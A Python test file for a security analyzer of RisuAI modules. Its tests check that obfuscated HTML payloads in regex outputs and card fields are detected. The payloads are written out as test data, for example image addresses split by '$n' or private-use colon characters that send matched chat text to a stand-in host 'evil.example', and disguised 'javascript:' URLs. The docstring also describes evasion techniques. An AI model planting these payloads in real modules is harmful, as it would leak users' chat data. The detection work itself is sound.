"""Findings of the ninth pass on the HTML side, each a test that fails before its fix:

* a regex script's ``$n`` is a line break (scripts.ts ``executeScript`` replaces every
  ``$n`` before the output is used), which a browser drops inside an address: ``//evil.ex$n
  ample/?q=$1`` leaked the matched text and ``javascript$n:`` was a script URL, unseen;
* RisuAI's display map (``risuUnescape`` after the Markdown of a chat message: U+E9BE is
  ``:``, U+E9BF ``;``, U+E9BA/U+E9BB ``(``/``)``, U+E9B8/U+E9B9 ``{``/``}``, U+E9BC/U+E9BD
  ``&lt;``/``&gt;``) made ``http\\ue9be/h`` an address and ``javascript\\ue9be`` a script
  URL, unseen; the background (shown without it) keeps them as they are;
* CBS tags that give characters (``{{u::2f}}``, ``{{unicodedecode::58}}``, ``{{dec}}``,
  ``{{br}}`` ...) built schemes and slashes the readers did not see (they removed the tags);
* CBS decoders (``{{file::name::base64}}`` outside a chat message's display,
  ``{{xordecrypt::...}}``, ``{{crypt::...}}``) hid whole HTML: an address leaking chat
  data, a handler; one whose argument is not literal is an unknown text (an address from it
  then chat data is RA305 with host ``*``);
* ``risu-btn`` was read case-sensitively and only quoted (``RISU-BTN="buy"``,
  ``risu-btn=sell`` gave no button), and inside another attribute's value
  (``data-x="risu-btn='zz'"``) it gave one;
* what a CBS tag builds from its arguments is HTML: ``{{button::Go::go" onclick="..."}}``
  puts its argument in ``risu-trigger="..."`` unescaped, so a quote in it adds a handler.
"""

from __future__ import annotations

from typing import Any

import pytest

from risutools.analysis import analyze
from risutools.analysis.model import Analysis
from risutools.formats.model import Module


def regex_out(out: str, kind: str = "editdisplay") -> Analysis:
    return analyze(Module({"name": "R", "id": "r", "regex": [
        {"comment": "r", "in": "(.+)", "out": out, "type": kind, "flag": "g"}]}))


def module(**data: Any) -> Analysis:
    return analyze(Module({"name": "M", "id": "m", **data}))


def rules(a: Analysis) -> set[str]:
    return {f.rule for f in a.findings}


def leaks(a: Analysis) -> list[str]:
    return [f.message for f in a.findings if f.rule == "RA305"]


def hosts(a: Analysis) -> set[str]:
    return {f.name for f in a.url_hosts}


def buttons(a: Analysis) -> set[str]:
    return {f.name for f in a.button_callbacks}


# ---- $n in a regex output ----------------------------------------------------------------

def test_dollar_n_is_a_line_break_a_browser_drops_in_an_address() -> None:
    a = regex_out('<img src="//evil.ex$nample/?q=$1">')
    assert any("evil.example" in m for m in leaks(a))
    assert "RA303" in rules(regex_out('<a href="javascript$n:alert(1)">x</a>'))
    a = regex_out('<img src="https://evil.ex$nample/p.png">')
    assert "evil.example" in hosts(a)


def test_dollar_n_keeps_the_lines_of_the_text_as_written() -> None:
    a = regex_out('a$nb$nc\n<img src="https://h.example/?q=$1">')
    ev = [f.evidence for f in a.findings if f.rule == "RA305"]
    assert ev and all("line 2" in e for e in ev)


def test_data_stays_what_it_is_the_match_is_dollar_amp() -> None:
    # RisuAI's ``.replace(/{{data}}/g, "$&")`` puts back the text it matched: a no-op
    assert any("h.example" in m for m in leaks(regex_out('<img src="https://h.example/?$&">')))


# ---- RisuAI's display map ----------------------------------------------------------------

@pytest.mark.parametrize("out", [
    '<img src="http\ue9be/evil.example/?q=$1">',
    '<img src="https\ue9be\\evil.example/?q=$1">',
    '<img src="HTTP\ue9be/evil.example/?q=$1">',
])
def test_the_display_colon_makes_an_address(out: str) -> None:
    assert any("evil.example" in m for m in leaks(regex_out(out)))


def test_the_display_colon_makes_a_script_url_and_a_host() -> None:
    assert "RA303" in rules(regex_out('<a href="javascript\ue9bealert(1)">x</a>'))
    assert "evil.example" in hosts(regex_out('<img src="https\ue9be//evil.example/p.png">'))
    greeting = analyze(Module({"name": "C", "id": "c", "cardFields": {
        "first_mes": '<a href="javascript\ue9bealert(1)">x</a>'}}))
    assert "RA303" in rules(greeting)


def test_the_background_is_shown_without_the_display_map() -> None:
    a = module(backgroundEmbedding='<a href="javascript\ue9bealert(1)">x</a>')
    assert "RA303" not in rules(a)
